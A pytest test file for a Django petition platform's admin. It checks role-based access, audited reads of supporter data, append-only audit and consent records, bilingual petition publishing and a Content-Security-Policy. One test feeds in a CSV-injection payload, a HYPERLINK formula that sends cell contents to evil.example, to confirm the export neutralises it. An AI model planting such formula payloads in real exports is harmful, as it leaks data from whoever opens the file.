"""Staff in the admin: each role sees and does only its own job, every staff read of a
supporter's personal data is audited, and a campaigner can put a case and its petition
online, in two languages, from the admin alone.

The staff are those of tests/actors.py: Carla campaigns (and must not reach supporters or
staff accounts), Mo moderates, Dana handles data protection.
"""

import csv
import html
import io
import re
from datetime import date

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone, translation

from outcry.actions import services
from outcry.actions.models import BlockedSource, Petition, Signature
from outcry.cases.models import Case, CaseStatus, CaseUpdate
from outcry.core.crypto import email_hash
from outcry.core.models import AuditEvent
from outcry.supporters.models import ConsentRecord, Supporter
from outcry.targets.models import Office, Target
from outcry.targets.selectors import office_holder
from tests import actors
from tests.conftest import sign_data
from tests.factories import CaseFactory, OfficeFactory

pytestmark = pytest.mark.django_db

SIGNATURE_LIST = "/admin/actions/signature/"
SUPPORTER_LIST = "/admin/supporters/supporter/"


@pytest.fixture(autouse=True)
def _default_language():
    """A request to /fr/ leaves French active in this thread; factories would then write
    `title` into `title_fr`. Each test starts and ends in the default language."""
    translation.deactivate()
    yield
    translation.deactivate()


def sign(client, petition: Petition, *, ip: str, **fields) -> None:
    """Sign through the public page, as a supporter would."""
    response = client.post(petition.get_absolute_url(), sign_data(**fields), REMOTE_ADDR=ip)
    assert response.status_code == 302, response.content[:500]


def export(client, signatures) -> object:
    return client.post(
        SIGNATURE_LIST,
        {"action": "export_csv", "index": "0", "_selected_action": [s.pk for s in signatures]},
    )


def streamed_text(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def signed(client, petition):
    """One signature by Zelda Quenby, read back as (signature, supporter)."""
    sign(
        client,
        petition,
        ip="198.51.100.10",
        first_name="Zelda",
        last_name="Quenby",
        email="Zelda.Quenby@Example.org",
    )
    return Signature.objects.get(), Supporter.objects.get()


# Anonymous visitors -------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", [SIGNATURE_LIST, SUPPORTER_LIST, "/admin/auth/user/", "/admin/core/auditevent/"]
)
def test_anonymous_visitor_is_sent_to_the_admin_login(client, path):
    """Without a staff login, the signature, supporter, staff and audit lists redirect to
    the admin login page."""
    response = client.get(path)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('admin:login')}?next={path}"


def test_anonymous_export_is_sent_to_the_admin_login(client, signed):
    """The export action posted without a login redirects to the login and sends no CSV."""
    signature, _ = signed
    response = export(client, [signature])
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert not AuditEvent.objects.exists()


# Campaigners -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        SIGNATURE_LIST,
        SUPPORTER_LIST,
        "/admin/auth/user/",
        "/admin/auth/user/add/",
        "/admin/auth/group/",
        "/admin/core/auditevent/",
    ],
)
def test_campaigner_is_refused_supporters_signatures_and_staff_accounts(client, path):
    """A campaigner writes content; lists of signatures and supporters, staff accounts and
    the audit log answer 403."""
    actors.logged_in(client, actors.campaigner())
    assert client.get(path).status_code == 403


def test_campaigner_can_neither_export_nor_open_a_supporter(client, signed):
    """A campaigner's export is refused, a supporter's page is refused, and neither is
    logged as a read of personal data (none took place)."""
    signature, supporter = signed
    actors.logged_in(client, actors.campaigner())

    response = export(client, [signature])
    assert response.status_code == 403
    assert "Zelda" not in response.content.decode()
    response = client.get(reverse("admin:supporters_supporter_change", args=[supporter.pk]))
    assert response.status_code == 403
    assert "Zelda" not in response.content.decode()
    assert not AuditEvent.objects.exists()


def test_campaigner_cannot_create_a_staff_account(client):
    """Posting the add-user form as a campaigner is refused and creates no login."""
    actors.logged_in(client, actors.campaigner())
    response = client.post(
        "/admin/auth/user/add/",
        {"username": "mallory", "password1": "Xk3!long-pass", "password2": "Xk3!long-pass"},
    )
    assert response.status_code == 403
    assert not User.objects.filter(username="mallory").exists()


# Data protection ---------------------------------------------------------------------


def test_data_protection_export_has_decrypted_names_and_is_audited(client, signed):
    """Dana's CSV export holds the supporter's decrypted name and email, and one audit row
    records that she exported, and when."""
    signature, _ = signed
    dana = actors.logged_in(client, actors.data_protection_officer())
    before = timezone.now()

    response = export(client, [signature])

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(streamed_text(response))))
    assert rows == [
        {
            "petition": signature.petition.slug,
            "state": "pending",
            "first_name": "Zelda",
            "last_name": "Quenby",
            "email": "Zelda.Quenby@Example.org",
            "country": "CA",
            "signed": signature.created_at.isoformat(),
            "validated": "",
        }
    ]
    event = AuditEvent.objects.get()
    assert event.event == "actions.signature.exported"
    assert (event.actor, event.actor_username) == (dana, "dana-dpo")
    assert event.object_type == "actions.signature"
    assert before <= event.created_at <= timezone.now()


def test_export_quotes_names_that_a_spreadsheet_would_run(client, petition):
    """A name typed as a spreadsheet formula comes out of the export as inert text."""
    sign(
        client,
        petition,
        ip="198.51.100.11",
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        last_name="@SUM(A1:A9)",
        email="formula@example.org",
    )
    actors.logged_in(client, actors.data_protection_officer())

    [row] = csv.DictReader(io.StringIO(streamed_text(export(client, Signature.objects.all()))))

    assert row["first_name"] == """'=HYPERLINK("http://evil.example/?"&A1,"Click")"""
    assert row["last_name"] == "'@SUM(A1:A9)"
    assert row["email"] == "formula@example.org"


def test_viewing_a_supporter_shows_personal_data_and_is_audited(client, signed):
    """Opening a supporter's page shows the decrypted name and writes an audit row naming
    who looked at which supporter, and when; every look writes another."""
    _, supporter = signed
    dana = actors.logged_in(client, actors.data_protection_officer())
    url = reverse("admin:supporters_supporter_change", args=[supporter.pk])
    before = timezone.now()

    response = client.get(url)

    assert response.status_code == 200
    page = response.content.decode()
    assert "Zelda" in page and "Quenby" in page and "Zelda.Quenby@Example.org" in page
    event = AuditEvent.objects.get()
    assert event.event == "supporters.supporter.viewed"
    assert (event.actor, event.actor_username) == (dana, "dana-dpo")
    assert (event.object_type, event.object_id) == ("supporters.supporter", str(supporter.pk))
    assert before <= event.created_at <= timezone.now()

    client.get(url)
    assert AuditEvent.objects.filter(event="supporters.supporter.viewed").count() == 2


def test_opening_a_missing_supporter_is_not_logged_as_a_view(client, signed):
    """A page for a supporter who does not exist shows nothing, and logs no view."""
    actors.logged_in(client, actors.data_protection_officer())
    response = client.get(reverse("admin:supporters_supporter_change", args=[987654]))
    assert response.status_code == 302  # the admin's "doesn't exist" redirect
    assert not AuditEvent.objects.exists()


def test_search_by_email_finds_the_supporter_and_is_audited(client, signed):
    """A search by email (any case, spaces around), posted from a form so the address is
    never in a URL, finds the one supporter through the blind index and writes an audit
    row with who searched; the address is not logged."""
    _, supporter = signed
    dana = actors.logged_in(client, actors.data_protection_officer())
    find = reverse("admin:supporters_supporter_find")

    response = client.post(find, {"email": "  ZELDA.QUENBY@example.ORG "})

    assert response.status_code == 200
    assert response.context["found"] == [supporter]
    assert reverse("admin:supporters_supporter_change", args=[supporter.pk]) in (
        response.content.decode()
    )
    event = AuditEvent.objects.get()
    assert event.event == "supporters.supporter.searched"
    assert (event.actor, event.actor_username) == (dana, "dana-dpo")
    assert "zelda" not in str(event.extra).lower()

    response = client.post(find, {"email": "nobody@example.org"})
    assert response.context["found"] == []
    assert AuditEvent.objects.filter(event="supporters.supporter.searched").count() == 2


def test_supporter_list_without_search_shows_no_personal_data_and_logs_nothing(client, signed):
    """The plain supporter list shows no names or addresses, so it is not audited."""
    actors.logged_in(client, actors.data_protection_officer())
    response = client.get(SUPPORTER_LIST)
    assert response.status_code == 200
    assert "Zelda" not in response.content.decode()
    assert not AuditEvent.objects.exists()


def test_data_protection_cannot_validate_signatures(client, petition, settings):
    """Moderation is the moderators' job: Dana's validate action changes nothing."""
    settings.SIGN_RATE_BURST_PER_MINUTE = 0
    sign(client, petition, ip="198.51.100.12", challenge_fallback="on")
    actors.logged_in(client, actors.data_protection_officer())
    flagged = Signature.objects.get()
    assert flagged.state == Signature.State.FLAGGED

    client.post(
        SIGNATURE_LIST,
        {"action": "validate_signatures", "index": "0", "_selected_action": [flagged.pk]},
    )

    flagged.refresh_from_db()
    assert flagged.state == Signature.State.FLAGGED
    assert not AuditEvent.objects.exists()


# Moderators --------------------------------------------------------------------------


def test_moderator_validates_flagged_signatures_in_bulk_and_they_count_once_confirmed(
    client, petition, settings
):
    """Signatures flagged by the rate limit (sent without the challenge) are validated by
    Mo in one admin action, audited; a validated signature counts only once its address
    is confirmed, and then exactly once."""
    settings.SIGN_RATE_BURST_PER_MINUTE = 1
    for n in range(4):  # one address (IP) signing four times in a minute, without JavaScript
        sign(
            client,
            petition,
            ip="198.51.100.13",
            email=f"signer{n}@example.org",
            challenge_fallback="on",
        )
    flagged = list(Signature.objects.filter(state=Signature.State.FLAGGED))
    assert len(flagged) == 3
    assert {s.flag_reason for s in flagged} == {"ip_burst"}
    mo = actors.logged_in(client, actors.moderator())

    response = client.post(
        SIGNATURE_LIST,
        {
            "action": "validate_signatures",
            "index": "0",
            "_selected_action": [s.pk for s in flagged],
        },
        follow=True,
    )

    assert response.status_code == 200
    assert "3 signature(s) validated." in response.content.decode()
    # Nobody confirmed these addresses: validated by staff, they still count for nothing.
    assert set(
        Signature.objects.filter(pk__in=[s.pk for s in flagged]).values_list("state", "counted")
    ) == {(Signature.State.PENDING, False)}
    petition.refresh_from_db()
    assert petition.count == 0
    event = AuditEvent.objects.get()
    assert event.event == "actions.signature.approved"
    assert event.actor == mo

    for signature in flagged:
        services.signature_confirm(token=services.confirmation_token(signature))
    services.petition_count_signatures(petition_id=petition.pk)
    petition.refresh_from_db()
    assert petition.count == 3

    # Validating them again counts no one twice.
    client.post(
        SIGNATURE_LIST,
        {
            "action": "validate_signatures",
            "index": "0",
            "_selected_action": [s.pk for s in flagged],
        },
    )
    petition.refresh_from_db()
    assert petition.count == 3


def test_moderator_sees_flagged_signatures_grouped_by_reason_and_source_and_blocks_one(
    client, petition, settings
):
    """Mo sees the flagged signatures grouped by why and where from (the ?source= and the
    hashed IP), opens one group, and blocks its IP hash in one action (audited); the next
    signature from it is flagged as blocked, and gets the usual page."""
    settings.SIGN_RATE_BURST_PER_MINUTE = 0
    for n in range(3):
        sign(
            client,
            petition,
            ip="198.51.100.30",
            email=f"wave{n}@example.org",
            source="mailing:7",
            challenge_fallback="on",
        )
    sign(client, petition, ip="198.51.100.31", email="alone@example.org", challenge_fallback="on")
    mo = actors.logged_in(client, actors.moderator())

    page = client.get(SIGNATURE_LIST).content.decode()
    groups = page[page.index('id="flagged-groups"') :]
    rows = re.findall(
        r"<tr>\s*<td><a href=\"([^\"]+)\">ip_burst</a></td>.*?<td>(\d+)</td>", groups, re.S
    )
    assert [count for _, count in rows] == ["3", "1"]
    wave_link = html.unescape(rows[0][0])
    assert "source=mailing%3A7" in wave_link
    wave = client.get(SIGNATURE_LIST + wave_link)
    assert wave.status_code == 200
    wave_ids = {s.pk for s in Signature.objects.filter(source="mailing:7")}
    shown_ids = {
        int(pk)
        for pk in re.findall(r'name="_selected_action" value="(\d+)"', wave.content.decode())
    }
    assert shown_ids == wave_ids

    client.post(
        SIGNATURE_LIST,
        {"action": "block_ip_hashes", "index": "0", "_selected_action": sorted(wave_ids)},
    )
    assert BlockedSource.objects.filter(kind="ip_hash").count() == 1
    assert AuditEvent.objects.filter(object_type="actions.blockedsource", actor=mo).exists()
    client.logout()
    sign(client, petition, ip="198.51.100.30", email="more@example.org")
    assert (
        Signature.objects.get(supporter__email_hash=email_hash("more@example.org")).flag_reason
        == "blocked_ip"
    )


def test_moderator_cannot_export_or_see_supporters(client, signed):
    """Mo moderates signatures but never sees who signed: no export, no supporters."""
    signature, supporter = signed
    actors.logged_in(client, actors.moderator())
    assert client.get(SIGNATURE_LIST).status_code == 200
    response = export(client, [signature])  # not among her actions: back to the list
    assert response.status_code == 302
    assert not response.get("Content-Type", "").startswith("text/csv")
    assert client.get(SUPPORTER_LIST).status_code == 403
    assert not AuditEvent.objects.exists()


# Append-only records -----------------------------------------------------------------


def test_audit_events_cannot_be_changed_or_deleted(signed):
    """An audit row, once written, cannot be saved again or deleted, singly or in bulk."""
    event = AuditEvent.objects.create(event="actions.signature.exported", extra={"count": 1})
    event.extra = {"count": 2}
    with pytest.raises(ValueError, match="append-only"):
        event.save()
    with pytest.raises(ValueError, match="append-only"):
        event.delete()
    with pytest.raises(ValueError, match="append-only"):
        AuditEvent.objects.filter(pk=event.pk).update(extra={"count": 2})
    with pytest.raises(ValueError, match="append-only"):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.get().extra == {"count": 1}


def test_consent_records_cannot_be_changed_or_deleted(signed):
    """A consent answer is kept in the exact words shown: it cannot be edited or removed,
    singly or in bulk."""
    consent = ConsentRecord.objects.filter(purpose="keep_informed").get()
    original = consent.wording
    consent.given = not consent.given
    consent.wording = "Something else"
    with pytest.raises(ValueError, match="append-only"):
        consent.save()
    with pytest.raises(ValueError, match="append-only"):
        consent.delete()
    with pytest.raises(ValueError, match="append-only"):
        ConsentRecord.objects.filter(pk=consent.pk).update(given=True)
    with pytest.raises(ValueError, match="append-only"):
        consent.supporter.consents.all().delete()
    assert ConsentRecord.objects.filter(purpose="keep_informed").get().wording == original


# Campaigners put a case online -------------------------------------------------------


def management_form(prefix: str, *, total: int, initial: int) -> dict[str, str]:
    return {
        f"{prefix}-TOTAL_FORMS": str(total),
        f"{prefix}-INITIAL_FORMS": str(initial),
        f"{prefix}-MIN_NUM_FORMS": "0",
        f"{prefix}-MAX_NUM_FORMS": "1000",
    }


def admin_post(client, url: str, data: dict) -> None:
    """Post an admin form and insist it was accepted (the admin redirects on success)."""
    response = client.post(url, data)
    if response.status_code != 302:
        context = response.context
        errors = context["adminform"].form.errors if context else {}
        inlines = [f.formset.errors for f in context["inline_admin_formsets"]] if context else []
        pytest.fail(f"{url} refused the form: {response.status_code} {errors} {inlines}")


def inline_management(prefix: str, *, total: int = 0, initial: int = 0) -> dict[str, str]:
    """The management form an admin inline formset posts with its rows."""
    return {
        f"{prefix}-TOTAL_FORMS": str(total),
        f"{prefix}-INITIAL_FORMS": str(initial),
        f"{prefix}-MIN_NUM_FORMS": "0",
        f"{prefix}-MAX_NUM_FORMS": "1000",
    }


def case_form(**overrides) -> dict[str, str]:
    data = {
        "name": "Natalia Pavlova",
        "slug": "natalia-pavlova",
        "country": "BY",
        "status": CaseStatus.AT_RISK,
        "is_published": "on",
        "occupation_en": "Journalist",
        "occupation_fr": "Journaliste",
        "summary_en": "A journalist threatened for her reporting.",
        "summary_fr": "Une journaliste menacée pour ses reportages.",
        "description_en": "",
        "description_fr": "",
        **management_form("updates", total=0, initial=0),
        "_save": "Save",
    }
    data.update(overrides)
    return data


def test_campaigner_records_a_dated_update_and_the_case_takes_its_status(client):
    """Carla creates a case, then adds a dated update with a new status through the
    timeline inline: the case now has that status. A back-dated update with another
    status does not override the newer news."""
    actors.logged_in(client, actors.campaigner())

    admin_post(client, reverse("admin:cases_case_add"), case_form())
    case = Case.objects.get(slug="natalia-pavlova")
    assert case.status == CaseStatus.AT_RISK
    assert (case.summary_en, case.summary_fr) == (
        "A journalist threatened for her reporting.",
        "Une journaliste menacée pour ses reportages.",
    )

    change_url = reverse("admin:cases_case_change", args=[case.pk])
    admin_post(
        client,
        change_url,
        case_form(
            **management_form("updates", total=1, initial=0),
            **{
                "updates-0-case": str(case.pk),
                "updates-0-date": "2026-03-02",
                "updates-0-title_en": "Detained at the border",
                "updates-0-title_fr": "Détenue à la frontière",
                "updates-0-body_en": "She was stopped on her way home.",
                "updates-0-new_status": CaseStatus.DETAINED,
            },
        ),
    )
    case.refresh_from_db()
    assert case.status == CaseStatus.DETAINED
    update = CaseUpdate.objects.get(case=case)
    assert (update.date, update.title_en, update.title_fr) == (
        date(2026, 3, 2),
        "Detained at the border",
        "Détenue à la frontière",
    )
    # From now on the timeline sets the status: the field is shown, not offered for edit.
    form_page = client.get(change_url).content.decode()
    assert 'name="status"' not in form_page
    assert 'name="updates-0-new_status"' in form_page

    admin_post(
        client,
        change_url,
        case_form(
            status=CaseStatus.DETAINED,
            **management_form("updates", total=2, initial=1),
            **{
                "updates-0-id": str(update.pk),
                "updates-0-case": str(case.pk),
                "updates-0-date": "2026-03-02",
                "updates-0-title_en": "Detained at the border",
                "updates-0-title_fr": "Détenue à la frontière",
                "updates-0-body_en": "She was stopped on her way home.",
                "updates-0-new_status": CaseStatus.DETAINED,
                "updates-1-case": str(case.pk),
                "updates-1-date": "2026-01-15",
                "updates-1-title_en": "Threats reported (earlier)",
                "updates-1-new_status": CaseStatus.THREATENED,
            },
        ),
    )
    case.refresh_from_db()
    assert case.status == CaseStatus.DETAINED
    assert case.updates.count() == 2
    page = client.get(f"/en/cases/{case.slug}/").content.decode()
    assert "Status: <strong>Detained</strong>" in page


def petition_form(*, case: Case, office: Office, **overrides) -> dict[str, str]:
    data = {
        "title_en": "Free Natalia Pavlova now",
        "title_fr": "Libérez Natalia Pavlova maintenant",
        "slug": "free-natalia-pavlova",
        "reference": "UA 12/26",
        "case": str(case.pk),
        "office": str(office.pk),
        "ask_en": "Release Natalia Pavlova immediately and unconditionally.",
        "ask_fr": "Libérez Natalia Pavlova immédiatement et sans condition.",
        "body_en": "",
        "body_fr": "",
        "status": Petition.Status.OPEN,
        "goal": "5000",
        "closes_at_0": "",
        "closes_at_1": "",
        **inline_management("offline_signatures"),
        "_save": "Save",
    }
    data.update(overrides)
    return data


def test_campaigner_publishes_a_bilingual_petition_from_the_admin(client):
    """Carla creates a target and an open petition with English and French text: it is on
    the English and French home pages at once, /fr/ shows the French title and ask, and
    signing it works."""
    actors.logged_in(client, actors.campaigner())
    case = CaseFactory(name="Natalia Pavlova")

    admin_post(
        client,
        reverse("admin:targets_target_add"),
        {
            "honorific_en": "Prosecutor General",
            "honorific_fr": "Procureur général",
            "salutation_en": "Dear Prosecutor General",
            "salutation_fr": "Monsieur le Procureur général",
            "name": "Andrei Shved",
            "key": "andrei-shved",
            "languages": "be, ru",
            **inline_management("tenures"),
            "_save": "Save",
        },
    )
    target = Target.objects.get(name="Andrei Shved")
    admin_post(
        client,
        reverse("admin:targets_office_add"),
        {
            "title_en": "Prosecutor General of Belarus",
            "title_fr": "Procureur général du Bélarus",
            "key": "by-prosecutor-general",
            "organisation_en": "Prosecutor General's Office",
            "organisation_fr": "Bureau du procureur général",
            "address": "Internatsionalnaya Street 22\n220030 Minsk",
            "country": "BY",
            "email": "",
            "languages": "be, ru",
            **inline_management("tenures", total=1),
            "tenures-0-target": str(target.pk),
            "tenures-0-started_on": "2020-01-01",
            "_save": "Save",
        },
    )
    office = Office.objects.get(key="by-prosecutor-general")
    assert office.title_fr == "Procureur général du Bélarus"
    assert office_holder(office=office) == target

    admin_post(
        client, reverse("admin:actions_petition_add"), petition_form(case=case, office=office)
    )
    petition = Petition.objects.get(slug="free-natalia-pavlova")
    assert petition.status == Petition.Status.OPEN

    english_home = client.get("/en/").content.decode()
    assert "Free Natalia Pavlova now" in english_home
    french_home = client.get("/fr/").content.decode()
    assert "Libérez Natalia Pavlova maintenant" in french_home
    assert "Free Natalia Pavlova now" not in french_home

    french_page = client.get("/fr/petitions/free-natalia-pavlova/")
    assert french_page.status_code == 200
    text = french_page.content.decode()
    assert re.search(r"<h1>\s*Libérez Natalia Pavlova maintenant\s*</h1>", text)
    assert "Libérez Natalia Pavlova immédiatement et sans condition." in text
    assert "Procureur général du Bélarus" in text
    english_page = client.get("/en/petitions/free-natalia-pavlova/").content.decode()
    assert re.search(r"<h1>\s*Free Natalia Pavlova now\s*</h1>", english_page)

    sign(client, petition, ip="198.51.100.14")
    assert Signature.objects.filter(petition=petition).count() == 1


def test_petition_without_french_text_falls_back_to_english(client):
    """A petition written only in English shows its English title and ask on /fr/."""
    actors.logged_in(client, actors.campaigner())
    case, office = CaseFactory(), OfficeFactory()

    admin_post(
        client,
        reverse("admin:actions_petition_add"),
        petition_form(
            case=case,
            office=office,
            slug="english-only",
            title_en="An English-only petition",
            title_fr="",
            ask_en="Only in English.",
            ask_fr="",
        ),
    )

    french_home = client.get("/fr/").content.decode()
    assert "An English-only petition" in french_home
    french_page = client.get("/fr/petitions/english-only/").content.decode()
    assert re.search(r"<h1>\s*An English-only petition\s*</h1>", french_page)
    assert "Only in English." in french_page


def test_draft_petition_stays_off_the_public_pages(client):
    """A petition saved as a draft is on neither home page and its page is not found."""
    actors.logged_in(client, actors.campaigner())
    admin_post(
        client,
        reverse("admin:actions_petition_add"),
        petition_form(
            case=CaseFactory(),
            office=OfficeFactory(),
            slug="not-yet",
            title_en="Not yet public",
            status=Petition.Status.DRAFT,
        ),
    )
    assert Petition.objects.get(slug="not-yet").status == Petition.Status.DRAFT
    assert "Not yet public" not in client.get("/en/").content.decode()
    assert client.get("/en/petitions/not-yet/").status_code == 404


def test_admin_pages_load_nothing_from_another_host(client):
    """The admin has its own Content-Security-Policy: scripts, styles, images, frames and
    form targets only from Outcry itself, so a staff page cannot be made to call out."""
    actors.logged_in(client, actors.administrator())

    response = client.get(SUPPORTER_LIST)

    assert response.status_code == 200
    policy = dict(
        part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == "'self'"
    assert policy["script-src"] == "'self'"
    assert policy["img-src"] == "'self' data:"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["form-action"] == "'self'"
